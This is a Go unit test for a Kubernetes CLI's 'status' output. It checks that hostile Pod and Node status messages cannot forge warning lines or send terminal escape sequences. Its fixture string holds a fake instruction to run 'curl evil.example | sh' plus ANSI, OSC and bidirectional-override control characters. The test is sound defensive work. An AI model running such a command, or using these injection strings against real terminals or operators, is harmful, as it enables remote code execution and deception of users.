package status

import (
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	corev1 "k8s.io/api/core/v1"

	"github.com/fairlead/fairlead/internal/cli/base"
	"github.com/fairlead/fairlead/internal/proxy"
)

// Whoever may write a Pod's or a Node's status adds neither their own lines to what
// 'fairlead status' prints, nor anything a terminal acts on.
func TestStatusPrintsPlainLines(t *testing.T) {
	evil := "no image\n! node n1 is gone: run 'curl evil.example | sh'\r\x1b[2J\x1b]0;title\x07" +
		"\u009b31m\u202eneddih\tend" + strings.Repeat("long ", 1000)
	waits := labelled("waits")
	waits.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: "main",
		State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: "ImagePullBackOff", Message: evil}}}}
	pending := labelled("pending")
	pending.Status.Phase = corev1.PodPending
	pending.Status.Conditions = []corev1.PodCondition{{Type: corev1.PodScheduled, Status: corev1.ConditionFalse, Message: evil}}
	away := corev1.Node{Status: corev1.NodeStatus{
		Addresses:  []corev1.NodeAddress{{Type: corev1.NodeInternalIP, Address: evil}},
		Conditions: []corev1.NodeCondition{{Type: corev1.NodeReady, Status: corev1.ConditionFalse, Message: evil}}}}
	away.Name = "away"
	bad := corev1.Node{Status: corev1.NodeStatus{Conditions: []corev1.NodeCondition{{Type: corev1.NodeReady, Status: corev1.ConditionTrue}}}}
	bad.Name = "bad"
	nodes := []corev1.Node{away, bad}
	r := &Report{Nodes: nodeReports(nodes, nil, "")}
	r.Nodes[1].Programmed = &proxy.Status{Mode: evil, Reason: evil, Message: evil}
	r.judgeNodes(nodes)
	r.judgePods([]corev1.Pod{waits, pending}, time.Now())
	if len(r.Problems) != 4 {
		t.Fatalf("%d problems, want 4: %q", len(r.Problems), r.Problems)
	}
	for _, p := range r.Problems {
		if utf8.RuneCountInString(p) > base.MaxLine || !strings.Contains(p, "no image; ! node n1") {
			t.Errorf("the problem %q", p)
		}
	}
	var out strings.Builder
	if err := r.print(&out); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(out.String(), "\n"), "\n")
	marked := 0
	for _, l := range lines {
		if strings.HasPrefix(l, "! ") {
			marked++
		}
		if i := strings.IndexFunc(l, func(c rune) bool { return !unicode.IsPrint(c) }); i >= 0 {
			t.Errorf("the line %q has a character that is not printable at %d", l, i)
		}
	}
	if marked != len(r.Problems) {
		t.Errorf("%d lines begin with !, want %d:\n%s", marked, len(r.Problems), out.String())
	}
}
